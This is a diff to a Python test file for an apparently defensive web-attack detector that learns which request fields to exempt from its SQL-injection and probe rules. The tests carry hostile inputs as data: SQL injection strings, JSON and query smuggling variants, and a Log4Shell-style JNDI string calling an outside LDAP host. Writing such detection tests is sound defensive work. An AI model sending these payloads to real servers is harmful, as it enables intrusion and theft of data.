@@ -3,16 +3,24 @@
 from __future__ import annotations
 
 import json
+import threading
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import polars as pl
+import pytest
 
 from shopwatch.config import Settings
 from shopwatch.contract import conform
 from shopwatch.detect.content import load_detectors
-from shopwatch.detect.exemptions import EXEMPT_STATE, ExemptionRules, fields_of, masked
+from shopwatch.detect.exemptions import (
+    EXEMPT_STATE,
+    Exemption,
+    ExemptionRules,
+    fields_of,
+    masked,
+)
 from shopwatch.pipeline.build import build_engine
 from shopwatch.pipeline.engine import Engine
 from shopwatch.pipeline.merge import expand_matches
@@ -162,7 +170,8 @@ def test_fewer_networks_than_min_sources_teach_nothing_yet() -> None:
 def test_refused_requests_teach_nothing() -> None:
     engine = Engine(WEB, exemptions=ExemptionRules())
     fired(
-        engine, *[request(ip, "/api/reviews", {"text": SQL_BOOK}, status=403) for ip in networks(12)]
+        engine,
+        *[request(ip, "/api/reviews", {"text": SQL_BOOK}, status=403) for ip in networks(12)],
     )
     assert "web.sqli_probe" in rules_of(fired(engine, review("84.1.2.3", SQL_BOOK)))
 
@@ -174,13 +183,15 @@ def test_a_match_that_needs_two_fields_teaches_nothing() -> None:
     assert "web.sqli_probe" in rules_of(fired(engine, request("84.1.2.3", spread, status=200)))
 
 
-def test_a_path_many_readers_open_is_exempt_but_its_query_is_not() -> None:
-    engine = Engine(WEB, exemptions=ExemptionRules())
+def test_a_path_is_never_learned_but_can_be_written() -> None:
     post = "/blog/how-to-select-a-tent-from-our-range-where-it-rains"
+    engine = Engine(WEB, exemptions=ExemptionRules())
     fired(engine, *[request(ip, post, status=200) for ip in networks(12)])
-    assert fired(engine, request("84.1.2.3", post, status=200)) == {}
+    assert "web.sqli_probe" in rules_of(fired(engine, request("84.1.2.3", post, status=200)))
+    written = Engine(WEB, exemptions=ExemptionRules(fixed=(Exemption(post, "path"),)))
+    assert fired(written, request("84.1.2.3", post, status=200)) == {}
     attack = post + "?ref=1%27+union+select+password+from+users--"
-    assert "web.sqli_probe" in rules_of(fired(engine, request("84.1.2.4", attack, status=200)))
+    assert "web.sqli_probe" in rules_of(fired(written, request("84.1.2.4", attack, status=200)))
 
 
 def test_written_exemptions_apply_from_the_start_and_a_sigma_uuid_names_its_rule() -> None:
@@ -242,12 +253,167 @@ def test_an_exemption_that_cannot_be_judged_lets_the_rule_fire() -> None:
 
 def test_fields_and_masking_of_bodies() -> None:
     body = json.dumps({"order": {"note": "x'; drop table", "lines": [{"note": "b"}]}, "n": 3})
-    assert fields_of("/api/orders/17/notes", body) == ["path", "body:note"]
-    target, blanked = masked("/api/orders/17/notes", body, ["body:note"])
+    assert fields_of("/api/orders/17/notes", body) == [
+        "path",
+        "body:order.note",
+        "body:order.lines[].note",
+    ]
+    target, blanked = masked("/api/orders/17/notes", body, ["body:order.note"])
     assert target == "/api/orders/17/notes"
-    assert json.loads(blanked or "") == {"order": {"note": "", "lines": [{"note": ""}]}, "n": 3}
+    assert json.loads(blanked or "") == {"order": {"note": "", "lines": [{"note": "b"}]}, "n": 3}
     form = "name=Ann&comment=it%27s+%27grand%27+--+ok"
     assert fields_of("/contact", form) == ["path", "body:name", "body:comment"]
     assert masked("/contact", form, ["body:comment"]) == ("/contact", "name=Ann&comment=")
     # a name written encoded is the same field
     assert masked("/s?%71=1%27&p=2", None, ["query:q"]) == ("/s?%71=&p=2", None)
+
+
+def learned_on_text() -> Engine:
+    """An engine for which body:text of /api/reviews is exempt from web.sqli_probe (and
+    the tokenizer, and the Sigma SQL strings rule)."""
+    engine = Engine(WEB, exemptions=ExemptionRules())
+    fired(engine, *[review(ip, FOREST) for ip in networks(12)])
+    fired(engine, *[review(ip, SQL_BOOK) for ip in networks(12, 20)])
+    assert fired(engine, review("84.1.2.3", FOREST), review("84.1.2.4", SQL_BOOK)) == {}
+    return engine
+
+
+@pytest.mark.parametrize(
+    ("variant", "body"),
+    [
+        # read as a form by an application that ignores the JSON type: id=1' or 1=1--
+        ("form-inside-json", '{"text":"&id=1%27+or+1%3D1--"}'),
+        # the first of two keys is what some parsers keep
+        ("duplicate-key", '{"text":"ok","product":"1\' or 1=1 --","product":"15914"}'),
+        # the same key name, another level
+        (
+            "nested-same-name",
+            '{"text":"ok","product":{"text":"1\' union select password from users--"}}',
+        ),
+    ],
+)
+def test_a_body_that_reads_two_ways_is_never_exempt(variant: str, body: str) -> None:
+    engine = learned_on_text()
+    found = fired(engine, request("203.0.113.20", "/api/reviews", body))
+    assert "web.sqli_probe" in rules_of(found), variant
+
+
+def test_a_value_with_a_semicolon_is_not_blanked_some_servers_split_on_it() -> None:
+    engine = Engine(WEB, exemptions=ExemptionRules())
+    text = "Learning+SQL%3A+select+from+where"
+    fired(engine, *[request(ip, f"/search?q={text}", status=200) for ip in networks(12)])
+    assert fired(engine, request("84.1.2.3", f"/search?q={text}", status=200)) == {}
+    smuggled = "/search?q=shoes;id=1%27+union+select+1,2+from+users+where+1--"
+    assert "web.sqli_probe" in rules_of(fired(engine, request("84.1.2.4", smuggled, status=200)))
+
+
+@pytest.mark.parametrize(
+    ("variant", "target", "status"),
+    [
+        # a redirect answers anything: the http-to-https server, a login wall
+        ("redirect", "/search?q=Learning+SQL%3A+select+from+where", 301),
+        # a probe for one flaw is answered by many servers: not a rule that learns
+        ("cve-probe", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D", 200),
+        # an open-proxy probe is a scanner rule: scanners never learn
+        ("proxy-probe", "http://azenv.net/", 200),
+    ],
+)
+def test_routine_internet_probes_teach_nothing(variant: str, target: str, status: int) -> None:
+    engine = Engine(WEB, exemptions=ExemptionRules())
+    first = rules_of(fired(engine, *[request(ip, target, status=status) for ip in networks(12)]))
+    assert first, variant
+    again = rules_of(fired(engine, request("84.1.2.3", target, status=status)))
+    assert again == first, variant
+
+
+def test_with_every_rule_learning_redirects_and_scanners_still_teach_nothing() -> None:
+    for target, status in (
+        ("/search?q=Learning+SQL%3A+select+from+where", 302),
+        ("http://azenv.net/", 200),
+    ):
+        engine = Engine(WEB, exemptions=ExemptionRules(learn_rules=None))
+        first = rules_of(
+            fired(engine, *[request(ip, target, status=status) for ip in networks(12)])
+        )
+        assert (
+            first and rules_of(fired(engine, request("84.1.2.3", target, status=status))) == first
+        )
+
+
+def test_only_the_rules_that_learn_learn() -> None:
+    engine = Engine(WEB, exemptions=ExemptionRules(learn_rules=frozenset({"web.xss_probe"})))
+    fired(engine, *[review(ip, SQL_BOOK) for ip in networks(12)])
+    assert "web.sqli_probe" in rules_of(fired(engine, review("84.1.2.3", SQL_BOOK)))
+
+
+def test_learn_false_and_never_stop_what_was_learned() -> None:
+    engine = learned_on_text()
+    frozen = Engine(WEB, exemptions=ExemptionRules(learn=False))
+    frozen.restore(engine.snapshot())
+    assert "web.sqli_probe" in rules_of(fired(frozen, review("84.1.2.5", SQL_BOOK)))
+    revoked = Engine(
+        WEB,
+        exemptions=ExemptionRules(
+            never=(Exemption("/api/reviews", "body:text", frozenset({"web.sqli_probe"})),)
+        ),
+    )
+    revoked.restore(engine.snapshot())
+    assert "web.sqli_probe" in rules_of(fired(revoked, review("84.1.2.6", SQL_BOOK)))
+    # what was not revoked still holds
+    assert "web.injection_tokenizer" not in rules_of(fired(revoked, review("84.1.2.7", FOREST)))
+
+
+@pytest.mark.parametrize(
+    ("variant", "addresses"),
+    [
+        ("ports", [f"198.51.100.7:{40000 + i}" for i in range(12)]),
+        ("bracketed-v6-ports", [f"[2001:db8::{i + 1}]:443" for i in range(12)]),
+        ("v4-mapped", [f"::ffff:198.51.100.{i}" for i in range(12)]),
+        ("not-addresses", [f"host-{i}.example" for i in range(12)]),
+    ],
+)
+def test_one_network_written_many_ways_is_one_network(variant: str, addresses: list[str]) -> None:
+    engine = Engine(WEB, exemptions=ExemptionRules())
+    fired(engine, *[review(a, SQL_BOOK) for a in addresses])
+    assert "web.sqli_probe" in rules_of(fired(engine, review("84.1.2.3", SQL_BOOK))), variant
+
+
+def test_a_written_endpoint_is_read_as_a_template() -> None:
+    engine = Engine(
+        WEB, exemptions=ExemptionRules(fixed=(Exemption("/api/orders/17/notes", "body:note"),))
+    )
+    note = {"note": SQL_BOOK}
+    assert fired(engine, request("84.1.2.3", "/api/orders/90210/notes", note)) == {}
+
+
+def test_an_odd_request_costs_its_own_exemption_not_the_batch() -> None:
+    engine = Engine(WEB, exemptions=ExemptionRules())
+    odd = review("84.9.9.9", SQL_BOOK)
+    odd["http.request.body.content"] = odd["http.request.body.content"][:-1] + ', "x": "\\ud800"}'
+    fired(engine, odd, *[review(ip, SQL_BOOK) for ip in networks(12)])
+    assert fired(engine, review("84.1.2.3", SQL_BOOK)) == {}
+
+
+def test_long_names_are_not_learned() -> None:
+    engine = Engine(WEB, exemptions=ExemptionRules())
+    name = "t" * 300
+    target = f"/search?{name}=Learning+SQL%3A+select+from+where"
+    fired(engine, *[request(ip, target, status=200) for ip in networks(12)])
+    assert "web.sqli_probe" in rules_of(fired(engine, request("84.1.2.3", target, status=200)))
+    assert engine.exemptions is not None
+    assert engine.exemptions.listing(engine.states[EXEMPT_STATE]).height == 0
+
+
+def test_a_form_body_that_backtracks_is_read_in_linear_time() -> None:
+    # ten fields and a space: the form pattern once took minutes on this (no timed bound
+    # here beyond not hanging the suite: the thread must finish)
+    body = "&".join(f"f{i}=v{i}" for i in range(400)) + " "
+    done = threading.Event()
+
+    def read() -> None:
+        fields_of("/contact", body)
+        done.set()
+
+    thread = threading.Thread(target=read, daemon=True)
+    thread.start()
+    assert done.wait(30)
